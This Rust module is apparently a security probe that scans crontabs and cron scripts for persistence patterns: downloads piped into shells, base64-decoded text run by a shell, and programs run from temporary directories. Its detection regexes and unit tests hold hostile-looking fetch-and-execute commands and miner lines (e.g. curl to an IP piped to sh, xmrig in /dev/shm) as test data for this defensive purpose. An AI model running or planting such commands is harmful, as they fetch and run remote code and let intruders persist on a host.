//! Cron entries that look like an intruder's persistence: a download piped into a shell
//! (`curl ...|sh`, `wget -O- ...|bash`), base64-decoded text run by a shell, or a program run from
//! a world-writable directory (/tmp, /var/tmp, /dev/shm). Those are how miners come back after
//! they are killed. Ordinary jobs that merely mention /tmp (`find /tmp -delete`) are not flagged:
//! only a path in the position of the command that runs counts.
//!
//! Reads the system crontab, /etc/cron.d, the cron.{hourly,daily,weekly,monthly} scripts and the
//! user crontabs (/var/spool/cron/crontabs on Debian, /var/spool/cron on RHEL). Without root the
//! user crontabs are unreadable: then, unless something was found anyway, the check is skipped
//! with the reason rather than reported clean.

use crate::i18n::{Msg, Said};
use crate::probe::Field;
use crate::probe::{Observation, Observations, ProbeContext, ProbeError};
use regex::Regex;
use serde::{Deserialize, Serialize};
use std::sync::LazyLock;

#[derive(Debug, Clone, PartialEq, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
pub struct Params {}

pub const FIELDS: &[Field] = &[
    Field::flag(
        "suspicious",
        "1 when the job downloads and runs code, decodes base64 or runs from a temporary directory",
    ),
    Field::num("line", "", "the line number in the cron file"),
    Field::text("reason", "why the line is suspicious"),
    Field::num("files_checked", "", "cron files read"),
];

/// Single files and directories whose files are cron tables or cron scripts.
const FILES: &[&str] = &["/etc/crontab", "/etc/anacrontab"];
const DIRS: &[&str] = &[
    "/etc/cron.d",
    "/etc/cron.hourly",
    "/etc/cron.daily",
    "/etc/cron.weekly",
    "/etc/cron.monthly",
    "/var/spool/cron/crontabs",
    "/var/spool/cron",
];

/// Most files read per run; a spool with more is an anomaly in itself.
const MAX_FILES: usize = 2000;

/// Suspicious lines named per file; a crontab with more (a hostile one can hold millions) is
/// summarised by how many more there are.
const MAX_HITS_PER_FILE: usize = 20;

const SHELLS: &str = r"(?:ba|da|z|k|c|tc|fi)?sh|python[0-9.]*|perl|ruby|php";

/// The patterns' word boundaries are ASCII (`(?-u:\b)`): the names they bound are ASCII, and a
/// Unicode `\b` makes the regex crate leave its DFA for its much slower PikeVM on any line with
/// a non-ASCII byte (a hostile crontab of such lines scanned several times slower).
fn ascii_boundaries(pattern: &str) -> String {
    pattern.replace(r"\b", r"(?-u:\b)")
}

static DOWNLOAD_EXEC: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let alternatives = [
        // curl ... | sh, wget -O- ... | /bin/bash
        format!(r"\b(?:curl|wget|fetch|tftp)\b[^|;&]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:{SHELLS})\b"),
        // bash <(curl ...)
        format!(r"\b(?:{SHELLS})\s+(?:-\S+\s+)*<\(\s*(?:curl|wget)\b"),
        // sh -c "$(curl ...)"
        format!(r#"\b(?:{SHELLS})\s+(?:-\S+\s+)*-c\s+["']?\$\(\s*(?:curl|wget)\b"#),
    ];
    Regex::new(&ascii_boundaries(&format!("(?i){}", alternatives.join("|")))).ok()
});

static BASE64_EXEC: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(&ascii_boundaries(&format!(
        r"(?i)\bbase64\s+(?:-d|--decode|-D)\b[^|;&]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:{SHELLS})\b"
    )))
    .ok()
});

static INTERPRETER: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(&format!("^(?:{SHELLS})$")).ok());

const TEMP_DIRS: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/"];

/// Words that run the next word as the command (`nohup /tmp/x`, `sh /tmp/x.sh`).
fn is_wrapper(word: &str) -> bool {
    let base = word.rsplit('/').next().unwrap_or(word);
    matches!(
        base,
        "nohup"
            | "exec"
            | "sudo"
            | "env"
            | "nice"
            | "ionice"
            | "setsid"
            | "timeout"
            | "command"
            | "time"
            | "then"
            | "do"
            | "else"
    ) || INTERPRETER.as_ref().is_some_and(|r| r.is_match(base))
}

/// Whether a shell command runs a program from a temporary directory: a temp path (or `./x`
/// after `cd` into one) in command position of any pipeline element.
fn runs_from_temp(command: &str) -> bool {
    let mut in_temp = false;
    for segment in command.split(['|', ';', '&', '`', '(', ')', '\n']) {
        let mut words = segment.split_whitespace().map(|w| w.trim_matches(['"', '\'']));
        let mut word = words.next();
        while let Some(w) = word {
            if w.contains('=') && !w.starts_with('/') {
                word = words.next(); // VAR=value prefix
                continue;
            }
            if is_wrapper(w) {
                // Skip the wrapper's options and numeric arguments (timeout 60, nice -n 5).
                word = words.by_ref().find(|x| !x.starts_with('-') && x.parse::<f64>().is_err());
                continue;
            }
            break;
        }
        let Some(w) = word else { continue };
        if w == "cd" {
            in_temp = words.next().is_some_and(|d| TEMP_DIRS.iter().any(|t| format!("{d}/").starts_with(t)));
            continue;
        }
        if TEMP_DIRS.iter().any(|t| w.starts_with(t)) || (in_temp && w.starts_with("./")) {
            return true;
        }
    }
    false
}

/// The command part of a table line: after the schedule, which is `fields` words (5 in a
/// crontab, plus the user in system tables; 1 plus the user for `@reboot`-style lines; 3 in
/// anacrontab: period, delay, job name). `None` for comments, blank lines and variable settings.
fn table_command(line: &str, format: Format) -> Option<&str> {
    let t = line.trim_start();
    if t.is_empty() || t.starts_with('#') {
        return None;
    }
    let first = t.split_whitespace().next()?;
    if first.contains('=') {
        return None;
    }
    let skip = match format {
        Format::Anacron => 3,
        Format::Table { system } if first.starts_with('@') => 1 + usize::from(system),
        Format::Table { system } => 5 + usize::from(system),
        Format::Script => 0,
    };
    let mut rest = t;
    for _ in 0..skip {
        rest = rest.trim_start();
        let end = rest.find(char::is_whitespace)?;
        rest = &rest[end..];
    }
    Some(rest.trim())
}

/// Why a line is suspicious, if it is: `download-exec` (a download piped into an interpreter),
/// `base64-exec` (decoded text run by one) or `temp-exec` (a program run from a temp directory).
/// The check file words each reason in each language.
pub fn classify(command: &str) -> Option<&'static str> {
    if DOWNLOAD_EXEC.as_ref().is_some_and(|r| r.is_match(command)) {
        Some("download-exec")
    } else if BASE64_EXEC.as_ref().is_some_and(|r| r.is_match(command)) {
        Some("base64-exec")
    } else if runs_from_temp(command) {
        Some("temp-exec")
    } else {
        None
    }
}

/// How a file's lines are read: a cron table (with or without a user column), anacrontab, or
/// a script (cron.daily and friends are plain shell).
#[derive(Clone, Copy)]
enum Format {
    Table { system: bool },
    Anacron,
    Script,
}

fn format_of(path: &str) -> Format {
    if path.starts_with("/var/spool/cron") {
        Format::Table { system: false }
    } else if path == "/etc/crontab" || path.starts_with("/etc/cron.d/") {
        Format::Table { system: true }
    } else if path == "/etc/anacrontab" {
        Format::Anacron
    } else {
        Format::Script
    }
}

/// The suspicious lines of the cron file `path` (its system path decides how it is read): line
/// number (1-based), the line, and why. The quarantine repair reads a file with the same rules.
pub fn suspicious_lines<'t>(path: &str, text: &'t str) -> Vec<(usize, &'t str, &'static str)> {
    let format = format_of(path);
    let mut found = Vec::new();
    for (n, line) in text.lines().enumerate() {
        let command = match format {
            Format::Script if line.trim_start().starts_with('#') => continue,
            Format::Script => line,
            _ => match table_command(line, format) {
                Some(c) => c,
                None => continue,
            },
        };
        if let Some(reason) = classify(command) {
            found.push((n + 1, line, reason));
        }
    }
    found
}

pub fn observe(_params: &Params, ctx: &ProbeContext) -> Result<Observations, ProbeError> {
    let mut files: Vec<String> = FILES.iter().map(|s| s.to_string()).collect();
    let mut unreadable = Vec::new();
    // What was cut: a file read only in part, suspicious lines beyond the ones named.
    let mut notes: Vec<String> = Vec::new();
    for dir in DIRS {
        match ctx.host.list_dir(dir) {
            Ok(names) => files.extend(names.into_iter().map(|n| format!("{dir}/{n}"))),
            Err(e) if e.kind() == std::io::ErrorKind::PermissionDenied => unreadable.push(dir.to_string()),
            Err(_) => {}
        }
    }
    let mut items = Vec::new();
    let mut checked = 0;
    for path in files.iter().take(MAX_FILES) {
        match crate::host::fsmeta::lstat(&ctx.host, path) {
            Ok(m) if m.kind == crate::host::fsmeta::Kind::File => {}
            _ => continue, // directories (crontabs inside /var/spool/cron), symlinks, missing
        }
        let file = match ctx.host.read(path) {
            Ok(f) => f,
            Err(e) if e.kind() == std::io::ErrorKind::PermissionDenied => {
                unreadable.push(path.clone());
                continue;
            }
            Err(_) => continue,
        };
        checked += 1;
        let mut file_notes = Vec::new();
        if file.not_text {
            file_notes.push(format!(
                "{path}: only the first {} KiB were read (not a text file)",
                crate::host::TEXT_PROBE_BYTES >> 10
            ));
        } else if file.truncated {
            file_notes.push(format!(
                "{path}: only the first {} KiB were read (file too large)",
                crate::host::MAX_FILE_BYTES >> 10
            ));
        }
        let first_item = items.len();
        let found = suspicious_lines(path, &file.text);
        let hits = found.len();
        for (n, line, reason) in found.into_iter().take(MAX_HITS_PER_FILE) {
            items.push(
                Observation::new(path)
                    .flag("suspicious", true)
                    .num("line", n as f64)
                    .text("reason", reason)
                    .evidence(format!("{path}:{n}: {line}")),
            );
        }
        if hits > MAX_HITS_PER_FILE {
            file_notes.push(format!("{path}: {} more suspicious lines not listed", hits - MAX_HITS_PER_FILE));
        }
        // Every finding about the file says what of it was cut; so does the summary.
        for item in &mut items[first_item..] {
            item.evidence.extend(file_notes.iter().cloned());
        }
        notes.extend(file_notes);
    }
    if items.is_empty() && !unreadable.is_empty() {
        return Err(ProbeError::Skipped(
            Said::new(Msg::SkipCronUnreadable).arg("files", unreadable.join(", ")).arg("checked", checked),
        ));
    }
    let mut scope = Observation::new("cron").num("files_checked", checked as f64);
    for u in unreadable {
        scope = scope.evidence(format!("{u}: permission denied"));
    }
    for n in notes {
        scope = scope.evidence(n);
    }
    items.insert(0, scope);
    Ok(Observations::of(items))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn suspicious_commands() {
        for bad in [
            "curl -fsSL http://1.2.3.4/x.sh | sh",
            "(curl -s http://x/a||wget -q -O- http://x/a)|bash",
            "wget -q -O - http://x/b | /bin/bash",
            "echo aGVsbG8= | base64 -d | bash",
            "bash -c \"$(curl -fsSL http://x/i.sh)\"",
            "/tmp/.x/kdevtmpfsi",
            "nohup /dev/shm/xmrig -o pool >/dev/null 2>&1 &",
            "cd /var/tmp && ./run",
            "sh /tmp/update.sh",
            "timeout 60 /tmp/a",
            // Non-ASCII around the words (the boundaries are ASCII ones).
            "echo 'mise à jour' ; curl -s http://x/é.sh | sh # déjà",
            "echo ünïcödé | base64 -d | bash",
        ] {
            assert!(classify(bad).is_some(), "{bad}");
        }
        assert_eq!(classify("echo 'mise à jour' ; curl -s http://x/é.sh | sh"), Some("download-exec"));
        assert_eq!(classify("xcurl http://x | sh"), None, "a word boundary still bounds");
        for fine in [
            "find /tmp -type f -mtime +7 -delete",
            "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
            "/usr/bin/certbot renew --quiet",
            "curl -fsS -o /dev/null https://hc-ping.com/uuid",
            "IP=$(curl -s https://ifconfig.me); echo $IP > /var/tmp/ip",
            "sha=$(curl -s http://x | sha256sum)",
            "tar czf /var/tmp/backup.tgz /srv",
            "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean",
        ] {
            assert_eq!(classify(fine), None, "{fine}");
        }
    }

    #[test]
    fn cron_table_fields() {
        let sys = Format::Table { system: true };
        let user = Format::Table { system: false };
        assert_eq!(table_command("*/5 * * * * root /tmp/x", sys), Some("/tmp/x"));
        assert_eq!(table_command("@reboot root /tmp/x", sys), Some("/tmp/x"));
        assert_eq!(table_command("@reboot /dev/shm/y", user), Some("/dev/shm/y"));
        assert_eq!(table_command("1 5 cron.daily /tmp/z", Format::Anacron), Some("/tmp/z"));
        assert_eq!(
            table_command("@monthly 15 cron.monthly run-parts /etc/cron.monthly", Format::Anacron),
            Some("run-parts /etc/cron.monthly")
        );
        assert_eq!(table_command("START_HOURS_RANGE=3-22", Format::Anacron), None);
        assert_eq!(table_command("SHELL=/bin/sh", sys), None);
        assert_eq!(table_command("# m h dom mon dow", sys), None);
        assert_eq!(table_command("* * *", sys), None);
    }

    /// A crontab of millions of suspicious lines, longer than the read cap: a bounded number of
    /// findings, each saying how many more there are and that the file was read only in part.
    #[test]
    fn a_huge_crontab_is_summarised() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join("etc")).unwrap();
        let line = "* * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n";
        let ctx = |dir: &std::path::Path| {
            ProbeContext::new(
                crate::host::Host::new(dir),
                std::time::Instant::now() + std::time::Duration::from_secs(60),
                false,
            )
        };
        std::fs::write(dir.path().join("etc/crontab"), line.repeat(100)).unwrap();
        let obs = observe(&Params {}, &ctx(dir.path())).unwrap();
        assert_eq!(obs.items.len(), 1 + MAX_HITS_PER_FILE);
        assert!(obs.items[1].evidence.iter().any(|e| e == "/etc/crontab: 80 more suspicious lines not listed"));
        let n = crate::host::MAX_FILE_BYTES as usize / line.len() + 1000;
        std::fs::write(dir.path().join("etc/crontab"), line.repeat(n)).unwrap();
        let obs = observe(&Params {}, &ctx(dir.path())).unwrap();
        assert_eq!(obs.items.len(), 1 + MAX_HITS_PER_FILE);
        let ev = &obs.items[MAX_HITS_PER_FILE].evidence;
        assert!(ev.iter().any(|e| e == "/etc/crontab: only the first 1024 KiB were read (file too large)"), "{ev:?}");
        assert!(obs.items[0].evidence.iter().any(|e| e.contains("more suspicious lines not listed")));
    }
}
